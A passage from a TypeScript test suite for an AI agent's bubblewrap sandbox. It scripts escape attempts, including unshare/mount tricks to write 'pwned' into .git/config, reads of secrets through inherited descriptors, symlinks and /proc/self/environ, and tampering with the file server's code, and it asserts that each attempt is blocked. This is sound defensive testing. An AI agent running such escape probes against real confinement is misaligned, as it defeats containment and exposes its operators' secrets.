      let streamed = 0;
      const notes: string[] = [];
      const result = await t.env.execCommand({
        command: "head -c 50000000 /dev/zero | tr '\\0' y; head -c 50000000 /dev/zero >&2",
        timeoutMs: 20_000,
        onOutput: (chunk) => {
          streamed += chunk.text.length;
          if (chunk.text.includes("not streamed")) notes.push(chunk.stream);
        },
      }).catch((error) => error);
      if (t.mode === "bwrap") {
        assert.ok(streamed < 3 * 64 * 1024, `${streamed} characters were streamed`);
        assert.deepEqual(notes.sort(), ["stderr", "stdout"]);
        assert.ok(result.limitsHit.some((hit: { kind: string }) => hit.kind === "output"));
      }
    },
  },
  {
    name: "user namespaces inside the sandbox cannot uncover .git or a mask",
    async plant({ ws, secretFile }) {
      await Deno.mkdir(join(ws, ".git"));
      await Deno.writeTextFile(join(ws, ".git", "config"), "[core]\n");
      await Deno.link(secretFile, join(ws, "hard.txt"));
    },
    async attack(t) {
      await t.shell(
        'unshare -Urm sh -c \'mkdir -p /tmp/m; mount --bind "$PWD" /tmp/m; ' +
          "echo pwned >> /tmp/m/.git/config; cat /tmp/m/hard.txt; " +
          'umount "$PWD/hard.txt" && cat hard.txt; umount "$PWD/.git"; ' +
          'mount -o remount,rw,bind "$PWD/.git"; echo pwned >> .git/config\' 2>&1',
      );
      assert.equal(await Deno.readTextFile(join(t.ws, ".git", "config")), "[core]\n");
    },
  },
  {
    name: "the sandbox's own files are out of reach: the file server, its modules, Deno",
    async attack(t) {
      const here = new URL(".", import.meta.url).pathname;
      const out = await t.shell(
        `ls ${here} 2>&1; echo x >> ${here}file_service.ts 2>&1; ` +
          `ls -la ${Deno.execPath()} 2>&1; ps -eo args | grep -c 'allow-write=.*file_server_main[.]ts'`,
      );
      if (t.mode === "bwrap") {
        assert.match(out, /No such file or directory/);
        assert.match(out, /^0$/m, "the shell sees the file server's process");
      }
      assert.doesNotMatch(await Deno.readTextFile(`${here}file_service.ts`), /\nx\n$/);
    },
  },
];

function writableDir(dir: string): boolean {
  try {
    Deno.removeSync(Deno.makeTempDirSync({ dir }));
    return true;
  } catch {
    return false;
  }
}

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.lstat(path);
    return true;
  } catch {
    return false;
  }
}

for (const c of cases) {
  register(c, "bwrap");
  register(c, "none");
}

// The agent started the way the outside world might start it: holding a
// descriptor it did not open, or unable to run bubblewrap. Each runs
// `testdata/escape_probe_main.ts` in a process of its own.

interface ProbeOutput {
  readonly confinement: { sandbox: string; shell: string; unavailableBecause?: string };
  readonly outputs: string[];
}

/** Runs the probe agent on `ws`; `inherit` is opened as descriptor 9 before it starts. */
async function probeAgent(
  ws: string,
  calls: { name: string; arguments: Record<string, unknown> }[],
  options: { inherit?: string; runBwrap: boolean },
): Promise<ProbeOutput> {
  const deno = [
    Deno.execPath(),
    "run",
    "--quiet",
    "--config",
    new URL("../../deno.json", import.meta.url).pathname,
    "--unstable-worker-options",
    "--allow-read",
    `--allow-write=${ws}`,
    ...(options.runBwrap ? ["--allow-run=bwrap"] : []),
    new URL("./testdata/escape_probe_main.ts", import.meta.url).pathname,
    ws,
    JSON.stringify(calls),
  ];
  // The descriptor is opened without close-on-exec, as a careless parent would leave it.
  const script = options.inherit
    ? 'exec 9<"$1" && [ -d /proc/self/fd/9 ] || exit 97; shift; exec "$@"'
    : 'shift; exec "$@"';
  const out = await new Deno.Command("bash", {
    args: ["-c", script, "probe", options.inherit ?? "", ...deno],
    env: { [SECRET_VAR]: SECRET },
    stdout: "piped",
    stderr: "piped",
  }).output();
  const stderr = new TextDecoder().decode(out.stderr);
  assert.ok(out.success, `the probe agent failed: ${stderr}`);
  return JSON.parse(new TextDecoder().decode(out.stdout));
}

async function outsideWithSecret(): Promise<{ outside: string; ws: string; secretFile: string }> {
  const outside = await Deno.realPath(await Deno.makeTempDir({ prefix: "forge-escape-" }));
  const ws = join(outside, "ws");
  await Deno.mkdir(ws);
  const secretFile = join(outside, "secret.txt");
  await Deno.writeTextFile(secretFile, `${SECRET}\n`);
  return { outside, ws, secretFile };
}

Deno.test({
  name: `escape [bwrap] a directory descriptor the agent inherited does not reach the shell${
    hasBwrap ? "" : " (needs bwrap: not run, bubblewrap is unusable here)"
  }`,
  ignore: !hasBwrap,
  async fn() {
    const { outside, ws } = await outsideWithSecret();
    try {
      const shell = (command: string) => ({ name: "shell", arguments: { command } });
      const result = await probeAgent(ws, [
        shell("ls /proc/self/fd | tr '\\n' ' '"),
        shell("cat /proc/self/fd/9/secret.txt; ls /proc/self/fd/9/ /dev/fd/9/; cat <&9"),
        shell("cd /proc/self/fd/9 && cat secret.txt; echo x > /proc/self/fd/9/new.txt"),
        { name: "read_file", arguments: { file_path: "/proc/self/fd/9/secret.txt" } },
        // The file server inherited it too: a link the shell makes leads there in its /proc.
        shell("ln -s /proc/self/fd/9 fdlink; ln -s /dev/fd/9/secret.txt fdsecret"),
        { name: "read_file", arguments: { file_path: "fdlink/secret.txt" } },
        { name: "read_file", arguments: { file_path: "fdsecret" } },
        { name: "grep", arguments: { pattern: "s3cr3t", path: "fdlink" } },
        { name: "write_file", arguments: { file_path: "fdlink/new.txt", content: "x" } },
      ], { inherit: outside, runBwrap: true });
      assert.equal(result.confinement.sandbox, "bwrap");
      assert.match(result.outputs[0], /^0 1 2 3 \n/);
      for (const out of result.outputs) assert.ok(!out.includes(SECRET), out);
      assert.equal(await exists(join(outside, "new.txt")), false);
    } finally {
      await Deno.remove(outside, { recursive: true });
    }
  },
});

Deno.test("escape [auto, no bwrap] the default environment fails closed for the shell and stays confined for files", async () => {
  const { outside, ws, secretFile } = await outsideWithSecret();
  await Deno.symlink(outside, join(ws, "up"));
  // Into the worker's own descriptor table: the directory the agent inherited as 9.
  await Deno.symlink("/proc/self/fd/9", join(ws, "fdlink"));
  try {
    const result = await probeAgent(ws, [
      { name: "shell", arguments: { command: `cat ${secretFile}` } },
      { name: "read_file", arguments: { file_path: secretFile } },
      { name: "read_file", arguments: { file_path: "up/secret.txt" } },
      { name: "read_file", arguments: { file_path: "/proc/self/fd/9/secret.txt" } },
      { name: "read_file", arguments: { file_path: "/proc/self/environ" } },
      { name: "read_file", arguments: { file_path: "fdlink/secret.txt" } },
      { name: "grep", arguments: { pattern: "s3cr3t", path: "fdlink" } },
      { name: "write_file", arguments: { file_path: "fdlink/new.txt", content: "x" } },
      { name: "grep", arguments: { pattern: "s3cr3t", path: "up" } },
      { name: "write_file", arguments: { file_path: "up/new.txt", content: "x" } },
      { name: "write_file", arguments: { file_path: "ok.txt", content: "inside" } },
    ], { inherit: outside, runBwrap: false });
    assert.equal(result.confinement.sandbox, "none");
    assert.equal(result.confinement.shell, "unavailable");
    // Where bwrap is not installed the probe stops at that, before asking for permission.
    assert.match(
      result.confinement.unavailableBecause ?? "",
      hasBwrap ? /permission to run/ : /permission to run|bubblewrap \(bwrap\) is not installed/,
    );
    assert.match(result.outputs[0], /no OS sandbox/);
    for (const out of result.outputs) assert.ok(!out.includes(SECRET), out);
    assert.equal(await exists(join(outside, "new.txt")), false);
    assert.equal(await Deno.readTextFile(join(ws, "ok.txt")), "inside");
  } finally {
    await Deno.remove(outside, { recursive: true });
  }
});

Deno.test("escape: a workspace that holds system directories is refused, in every mode", async () => {
  for (const workspace of ["/", "/usr", "/proc", "/etc"]) {
    for (const sandbox of ["auto", "none"] as const) {
      const env = new ConfinedEnvironment({ workspace, sandbox });
      const error = await env.initialize().then(() => undefined, (e) => e);
      await env.close();
      assert.ok(error, `workspace ${workspace} was accepted (sandbox ${sandbox})`);
      assert.equal(error.code, "InvalidArgument", String(error));
      assert.match(error.message, /contains the system directory/);
    }
  }
});
